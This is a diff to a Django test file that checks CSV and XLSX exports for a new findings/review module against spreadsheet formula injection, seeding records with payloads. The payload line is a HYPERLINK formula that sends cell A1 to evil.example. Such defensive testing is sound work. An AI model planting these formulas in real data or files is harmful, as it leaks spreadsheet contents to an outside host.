@@ -54,7 +54,7 @@ from tests.factories import (
 pytestmark = pytest.mark.django_db
 
 ROOT = Path(settings.BASE_DIR)
-APPS = ("assessments", "config", "dealers", "goals", "incentives", "support", "surveys")
+APPS = ("assessments", "config", "dealers", "goals", "incentives", "insights", "support", "surveys")
 #: One payload per character a spreadsheet starts a formula with.
 PAYLOADS = [f'{start}HYPERLINK("http://evil.example/?leak="&A1,"open me")' for start in FORMULA_STARTS]
 PAYLOAD = PAYLOADS[0]
@@ -172,7 +172,38 @@ def world(cast, dealer, other_dealer, far_dealer) -> dict[str, Any]:
         actor=cast["hq_admin"],
     )
     _support_case(dealer)
+    _finding(dealer, cast["hq_manager"])
     return {**cast, "dealer": dealer}
+
+
+def _finding(dealer: Dealer, hq: User) -> None:
+    """A finding with the dealer's name and a closed review (复盘) whose words are payloads: the
+    findings list, its records and the daily review export them."""
+    from insights.models import Finding, Review
+
+    now = timezone.now()
+    ro = RepairOrderFactory(dealer=dealer, ro_number=PAYLOADS[0][:40], fault_code="F013")
+    finding = Finding.objects.create(
+        kind="warranty_cost",
+        subject=PAYLOADS[4][:40],
+        dealer=dealer,
+        month="2026-10",
+        fingerprint="safe-files",
+        figures={"value": 1.0},
+        evidence={"repair_orders": [ro.pk]},
+        status="closed",
+        owner=hq,
+        found_at=now,
+        last_seen_at=now,
+    )
+    Review.objects.create(
+        finding=finding,
+        root_cause=PAYLOADS[1],
+        countermeasure=PAYLOADS[2],
+        lesson=PAYLOADS[3],
+        closed_by=hq,
+        closed_at=now,
+    )
 
 
 def _support_case(dealer: Dealer) -> None:
@@ -268,6 +299,36 @@ PAGE_EXPORTS: dict[str, tuple[str, Callable[[], str], str]] = {
     ),
     "support report csv": ("csv", lambda: reverse("support:report_export", args=["csv"]), "hq_manager"),
     "support report xlsx": ("xlsx", lambda: reverse("support:report_export", args=["xlsx"]), "hq_manager"),
+    "findings csv": (
+        "csv",
+        lambda: reverse("insights:list_export", args=["csv"]) + "?status=closed",
+        "hq_manager",
+    ),
+    "findings xlsx": (
+        "xlsx",
+        lambda: reverse("insights:list_export", args=["xlsx"]) + "?status=closed",
+        "hq_manager",
+    ),
+    "finding records csv": (
+        "csv",
+        lambda: reverse("insights:evidence_export", args=[_finding_pk(), "csv"]),
+        "hq_manager",
+    ),
+    "finding records xlsx": (
+        "xlsx",
+        lambda: reverse("insights:evidence_export", args=[_finding_pk(), "xlsx"]),
+        "hq_manager",
+    ),
+    "daily review csv": (
+        "csv",
+        lambda: reverse("insights:daily_export", args=["csv"]) + f"?day={timezone.localdate().isoformat()}",
+        "hq_manager",
+    ),
+    "daily review xlsx": (
+        "xlsx",
+        lambda: reverse("insights:daily_export", args=["xlsx"]) + f"?day={timezone.localdate().isoformat()}",
+        "hq_manager",
+    ),
     "ranking all KPIs xlsx": (
         "xlsx",
         lambda: reverse("assessments:ranking_kpis_export", args=["xlsx"]) + "?period=2026-10",
@@ -307,6 +368,12 @@ PAGE_EXPORTS: dict[str, tuple[str, Callable[[], str], str]] = {
         "hq_admin",
     ),
 }
+
+
+def _finding_pk() -> int:
+    from insights.models import Finding
+
+    return Finding.objects.get(fingerprint="safe-files").pk
 
 
 @pytest.mark.parametrize("name", sorted(PAGE_EXPORTS))
@@ -490,6 +557,9 @@ WALKED = {
     "surveys.views.factors_export": "survey factors csv/xlsx (no user text)",
     "surveys.views.alerts_export": "hot alerts csv/xlsx",
     "surveys.views.invitation_export": "invitations csv/xlsx",
+    "insights.views.finding_list_export": "findings csv/xlsx",
+    "insights.views.finding_evidence_export": "a finding's records csv/xlsx",
+    "insights.views.daily_export": "daily review csv/xlsx",
 }
 #: The helper itself.
 HELPER = "assessments.exporting"
